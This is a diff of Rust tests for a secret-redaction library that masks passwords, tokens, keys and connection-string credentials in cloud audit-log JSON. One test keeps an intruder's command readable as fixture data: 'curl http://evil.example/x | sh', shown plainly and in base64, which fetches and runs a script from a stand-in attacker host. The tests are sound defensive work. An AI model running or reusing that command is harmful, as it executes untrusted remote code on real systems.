@@ -3,7 +3,6 @@
 use proptest::prelude::*;
 use serde::de::IgnoredAny;
 
-use super::names::{SECRET, SECRET_FIRST};
 use super::replacement::mark;
 use super::{MAX_DEPTH, redacted};
 
@@ -30,13 +29,6 @@ fn a_secret_becomes_its_length_and_the_head_of_its_hash() {
         &format!("{{\"Password\":\"{}\"}}", mark("é云")),
     );
     assert!(mark("é云").starts_with("[redacted 2 chars "));
-}
-
-#[test]
-fn every_word_begins_with_a_letter_of_the_list() {
-    for word in SECRET {
-        assert!(SECRET_FIRST.contains(&word.as_bytes()[0]), "{word}");
-    }
 }
 
 #[test]
@@ -120,16 +112,321 @@ fn names_are_secret_in_any_case_and_however_written() {
             &format!(r#"{{"{name}" : "{HUNTER}" , "b":1}}"#),
         );
     }
-    for name in [
-        "TokenType",
-        "accessKeyId",
-        "eventId",
-        "keyId",
-        "pass",
-        "user",
-    ] {
+    for name in ["TokenType", "accessKeyId", "eventId", "keyId", "user"] {
         let record = format!(r#"{{"{name}":"hunter2"}}"#);
         check(&record, &record);
+    }
+}
+
+/// In 0.1.0 these stayed.
+#[test]
+fn secrets_that_stayed_are_replaced() {
+    for name in [
+        "Plaintext",
+        "Base32StringSeed",
+        "QRCodePNG",
+        "DB_PASS",
+        "DB_PASS_PROD",
+        "DBPASS",
+        "pass",
+        "REDIS_AUTH",
+        "OPENAI_KEY",
+        "OPENAI_KEY_2",
+        "STRIPE_KEYS",
+        "GITHUB_PAT",
+        "JWT_KEY",
+        "JWT",
+        "SK",
+        "OSS_SK",
+        "accessSk",
+        "TokenValue",
+        "TOKEN_RO",
+        "UserPwdNew",
+        "MasterKey",
+        "SharedKey",
+        "SigningKey",
+        "SessionKey",
+        "SSHKey",
+        "sshKey1",
+        "EncryptionKey",
+        "api_key",
+        "X-Api-Key",
+        "Credential",
+        "Credentials",
+        "Ticket",
+        "client-key-data",
+        "auth",
+        "SAMLAssertion",
+        "requestParameters_DB_PASS",
+        "Set-Cookie",
+    ] {
+        check(
+            &format!(r#"{{"a":{{"{name}":"hunter2"}}}}"#),
+            &format!(r#"{{"a":{{"{name}":"{HUNTER}"}}}}"#),
+        );
+        check(
+            &format!(r#"{{"Env":"{{\"{name}\":\"hunter2\"}}","b":["{name}=hunter2"]}}"#),
+            &format!(r#"{{"Env":"{{\"{name}\":\"{HUNTER}\"}}","b":["{name}={HUNTER}"]}}"#),
+        );
+        check(
+            &format!(r#"[{{"name":"{name}","value":"hunter2"}}]"#),
+            &format!(r#"[{{"name":"{name}","value":"{HUNTER}"}}]"#),
+        );
+    }
+}
+
+/// The names of things, and what is said about secrets, are what an answer is about.
+#[test]
+fn names_that_identify_something_stay() {
+    for name in [
+        "AccessKeyId",
+        "accessKeyId",
+        "AccessKey",
+        "ACCESS_KEY",
+        "ALICLOUD_ACCESS_KEY",
+        "KeyName",
+        "Key",
+        "KmsKeyId",
+        "KMS_KEY",
+        "KeyPairName",
+        "SshKeyPairName",
+        "KeyPairIds",
+        "KeySpec",
+        "KeyMaterialId",
+        "MonkeyName",
+        "PublicKey",
+        "PUBLIC_KEY",
+        "PublicKeyBody",
+        "ObjectKey",
+        "object_key",
+        "TagKey",
+        "ProductKey",
+        "AppKey",
+        "PrimaryKey",
+        "TokenType",
+        "TokenExpiration",
+        "SecretName",
+        "secretname",
+        "SecretId",
+        "SecretArn",
+        "SecretType",
+        "PasswordPolicy",
+        "MinimumPasswordLength",
+        "MaxPasswordAge",
+        "PasswordReusePrevention",
+        "PasswordResetRequired",
+        "SignatureVersion",
+        "SignatureMethod",
+        "AuthType",
+        "AuthMode",
+        "VpcAuthMode",
+        "ApiKeyId",
+        "CredentialReport",
+        "TicketId",
+        "PassRole",
+        "Passenger",
+        "Compass",
+        "MfaBypass",
+        "Disk",
+        "DISK",
+        "Task",
+        "DiskCategory",
+        "Pattern",
+        "PATH",
+        "Author",
+        "CommandContent",
+        "Content",
+        "Email",
+        "MobilePhone",
+        "eventName",
+        "userAgent",
+    ] {
+        let record = format!(r#"{{"a":{{"{name}":"hunter2"}},"b":"{name}=hunter2"}}"#);
+        check(&record, &record);
+    }
+    for record in [
+        r#"{"PasswordPolicy":{"MinimumPasswordLength":8,"RequireSymbols":true,"HardExpire":false}}"#,
+        r#"{"eventName":"GenerateCredentialReport","x":"sts:AssumeRole","y":"ram:PassRole"}"#,
+        r#"{"eventName":"GenerateDataKeyWithoutPlaintext","serviceName":"Kms"}"#,
+        r#"{"resourceName":"acs:kms:cn-hangzhou:1:secret/db-password"}"#,
+        r#"{"referencedResources":{"ACS::KMS::Secret":["db-password","api-token"]}}"#,
+        r#"{"MobilePhone":"86-13800000000","Email":"a:b@example.com","u":"mailto:a@b.example"}"#,
+        r#"{"url":"https://example.com:8080/a?b=c@d","v":"https://user@example.com/"}"#,
+        r#"{"X-Acs-Credential":"LTAI5tExampleKey0001/20240305/cn-hangzhou/oss/aliyun_v4_request"}"#,
+        r#"{"a":"x-oss-credential=LTAI5tExampleKey0001/20240305"}"#,
+        r#"{"md5":"d41d8cd98f00b204e9800998ecf8427e","i":"i-bp1ltva99x1aqqrmcp2fd41d8cd98f00"}"#,
+        r#"{"cert":"MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ"}"#,
+        r#"{"key":"MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAxyzxyzxyzxyzxyzx"}"#,
+        r#"{"userAgent":"aliyun-cli/3.0.1 Credentials/sts (linux; amd64)"}"#,
+    ] {
+        check(record, record);
+    }
+}
+
+#[test]
+fn masks_of_the_cloud_stay() {
+    for record in [
+        r#"{"Password":"****","UserData":"*","b":[{"Key":"Password","Value":"******"}]}"#,
+        r#"{"a":"Password=****&b=1","c":"mysql://u:****@h","d":"{\"token\":\"***\"}"}"#,
+        r#"{"Password":"true","a":"x://u:***@h IDENTIFIED BY '****'"}"#,
+    ] {
+        check(record, record);
+    }
+    let record = r#"{"Password":"gS09****"}"#;
+    check(record, &record.replace("gS09****", &mark("gS09****")));
+}
+
+#[test]
+fn what_an_intruder_ran_stays_readable() {
+    let record = r#"{"CommandContent":"Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBiYXNoCg==","Name":"reset-password"}"#;
+    check(record, record);
+    let record = r##"{"Name":"password.txt","Content":"#!/bin/sh\ncurl http://evil.example/x | sh","ContentType":"PlainText"}"##;
+    check(record, record);
+    check(
+        r#"{"CommandContent":"id; export DB_PASS=hunter2; mysql -e \"CREATE USER u IDENTIFIED BY 'hunter2'\""}"#,
+        &r#"{"CommandContent":"id; export DB_PASS=@; mysql -e \"CREATE USER u IDENTIFIED BY '@'\""}"#
+            .replace('@', HUNTER),
+    );
+}
+
+/// The IDs of the credentials that a call has given are how they are followed.
+#[test]
+fn an_object_of_credentials_keeps_the_id() {
+    for (open, close, quote) in [("{", "}", "\""), ("\"{", "}\"", "\\\"")] {
+        let record = r#"{"Credentials":<~AccessKeyId~:~STS.NUexample~,~AccessKeySecret~:~hunter2~,~SecurityToken~:~hunter2~,~Expiration~:~2024-03-05T09:21:32Z~>}"#;
+        let record = record
+            .replace('<', open)
+            .replace('>', close)
+            .replace('~', quote);
+        check(&record, &record.replace("hunter2", HUNTER));
+    }
+    let record = r#"{"auth":[{"type":"basic","pass":"hunter2"}],"Credential":["hunter2"]}"#;
+    let expected = record.replace(r#"["hunter2"]"#, &format!("\"{}\"", mark(r#"["hunter2"]"#)));
+    check(record, &expected.replace("hunter2", HUNTER));
+}
+
+#[test]
+fn passwords_of_addresses_are_replaced() {
+    for (text, secret) in [
+        ("mysql://u:@h:3306/db", "hunter2"),
+        ("jdbc:postgresql://u:@h/db?x=a@b", "p@ss:w0rd"),
+        ("redis://:@h:6379/0", "hunter2"),
+        ("see mongodb+srv://u:@h.example/ there", "hunter2"),
+        ("amqp://u:@h", "pa/ss?w#rd"),
+        ("https://x-access-token:@github.example/a.git", "hunter2"),
+        ("DATABASE_URL=mysql://u:@h/d", "hunter2"),
+        ("u=mysql%3A%2F%2Fu%3A@%40h", "hunter2"),
+    ] {
+        // The place of the password is the first `@`.
+        let record = |secret: &str| {
+            let text = text.replacen(":@", &format!(":{secret}@"), 1);
+            let text = text.replacen("3A@", &format!("3A{secret}"), 1);
+            serde_json::json!({"a": text}).to_string()
+        };
+        assert_eq!(redacted(&record(secret)), record(&mark(secret)));
+    }
+}
+
+#[test]
+fn passwords_of_sql_are_replaced() {
+    for (text, secret) in [
+        ("CREATE USER 'u'@'%' IDENTIFIED BY '~'", "hunter2"),
+        ("create user u identified by \"~\"", "hunter2"),
+        (
+            "ALTER USER u IDENTIFIED WITH mysql_native_password BY '~' EXPIRE",
+            "it''s",
+        ),
+        ("GRANT ALL ON *.* TO u IDENTIFIED BY PASSWORD '~'", "*0123"),
+        ("CREATE USER u IDENTIFIED BY ~;", "hunter2"),
+        ("CREATE ROLE r LOGIN PASSWORD '~'", "hunter2"),
+        (
+            "CREATE USER u WITH ENCRYPTED PASSWORD '~' CREATEDB",
+            "hunter2",
+        ),
+        ("ALTER USER u WITH PASSWORD '~'", "a'' b"),
+        ("CREATE LOGIN u WITH PASSWORD = N'~', x = 1", "hunter2"),
+        ("SET PASSWORD FOR 'u'@'%' = '~'", "hunter2"),
+        ("SET PASSWORD FOR u = PASSWORD('~')", "hunter2"),
+        ("sql=IDENTIFIED+BY+%27~%27", "hunter2"),
+    ] {
+        let record = |secret: &str| serde_json::json!({"Sql": text.replace('~', secret)});
+        let record = |secret: &str| record(secret).to_string();
+        assert_eq!(redacted(&record(secret)), record(&mark(secret)));
+    }
+    let record = r#"{"a":"he identified a problem by looking","b":"no user is identified by u-1"}"#;
+    check(record, record);
+}
+
+#[test]
+fn keys_without_armour_and_bare_tokens_are_replaced() {
+    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P";
+    let lines = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nVJTUt9Us8cKjMzEfYyjiWA4R4==";
+    for (text, secret) in [
+        ("~", jwt),
+        ("got ~, it said", jwt),
+        ("https://h/~/x", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0."),
+        (
+            "~",
+            "MIIEpAIBAAKCAQEAxyzxyzxyzxyzxyzxyzxyzxyzxyzxyzxyzxyzxyz=",
+        ),
+        ("~", lines),
+        (
+            "x ~",
+            "MHcCAQEEIODGmWvPkEz1bQ4sz5jEQ5bNuGz8aBcDeFgHiJkLmNoP",
+        ),
+        (
+            "~",
+            "MC4CAQAwBQYDK2VwBCIEIODGmWvPkEz1bQ4sz5jEQ5bNuGz8aBcDeFgHi",
+        ),
+        ("~", "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAAB"),
+        ("~", "LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpNSUlFcEFJ"),
+        ("~ x", "ghp_0123456789abcdefghijABCDEFGHIJ012345"),
+        ("(~)", "sk-0123456789abcdef0123456789abcdef"),
+    ] {
+        let record = |secret: &str| serde_json::json!({"a": text.replace('~', secret)});
+        assert_eq!(
+            redacted(&record(secret).to_string()),
+            record(&mark(secret)).to_string()
+        );
+    }
+    for text in [
+        "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBiYXNoCg==",
+        "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSURkekNDQWwr",
+        "eyJ",
+        "eyJhbGciOiJIUzI1NiJ9",
+        "task-0123456789abcdef0123456789abcdef",
+        "disk-0123456789abcdef0123456789abcdef",
+    ] {
+        let record = format!(r#"{{"a":"{text}"}}"#);
+        check(&record, &record);
+    }
+}
+
+#[test]
+fn lists_and_pairs_of_names_and_values_are_replaced() {
+    for record in [
+        r#"["Authorization","hunter2"]"#,
+        r#"{"headers":[["Host","h"],["authorization" , "hunter2"]]}"#,
+        r#"["Host","h","Cookie","hunter2","X-Api-Key","hunter2"]"#,
+        r#"{"Env":["REDIS_AUTH","hunter2"]}"#,
+        r#"{"Args":["serve","--password","hunter2"]}"#,
+        r#"{"Args":"[\"serve\",\"--db-token\",\"hunter2\"]"}"#,
+        r#"{"header":"Password","content":"hunter2"}"#,
+        r#"{"content":"hunter2","Header":"Authorization"}"#,
+        r#"{"key":"DB_PASS","contents":"hunter2"}"#,
+        r#"{"name":"REDIS_AUTH","value":"hunter2"}"#,
+        r#"{"Parameter":"MasterKey","Value":"hunter2"}"#,
+    ] {
+        check(record, &record.replace("hunter2", HUNTER));
+    }
+    for record in [
+        r#"["Password","UserName","Email"]"#,
+        r#"["x","Password","y"]"#,
+        r#"{"a":"--password","b":"x"}"#,
+        r#"{"a":"Authorization","b":"x"}"#,
+        r#"["KeyName","x"]"#,
+    ] {
+        check(record, record);
     }
 }
 
@@ -339,9 +636,25 @@ fn long_texts_take_no_longer_than_their_length() {
         "\"%22\\\"",
         "-----BEGIN PRIVATE KEY-----",
         "\"a\":\"b=",
+        "auth={",
+        "\"auth\":[{",
+        "\"auth\":{",
+        "[\"auth\",",
+        "[\"Authorization\",",
+        "IDENTIFIED BY '",
+        "identified with ",
+        "password for ",
+        "password ",
+        "://",
+        "://a:",
+        "://a:b@",
+        "eyJ",
+        "eyJeyJeyJ.",
+        "eyJeyJeyJ.eyJeyJ.",
+        "MIIEpAIBAAKCAQEAxyzxyzxyzxyzxyzxyzxyz\n",
         "{\"a\":\"secret%3D",
     ] {
-        let text = piece.repeat((1 << 18) / piece.len());
+        let text = piece.repeat((1 << 16) / piece.len());
         let _ = redacted(&text);
         let _ = redacted(&serde_json::Value::from(text).to_string());
     }
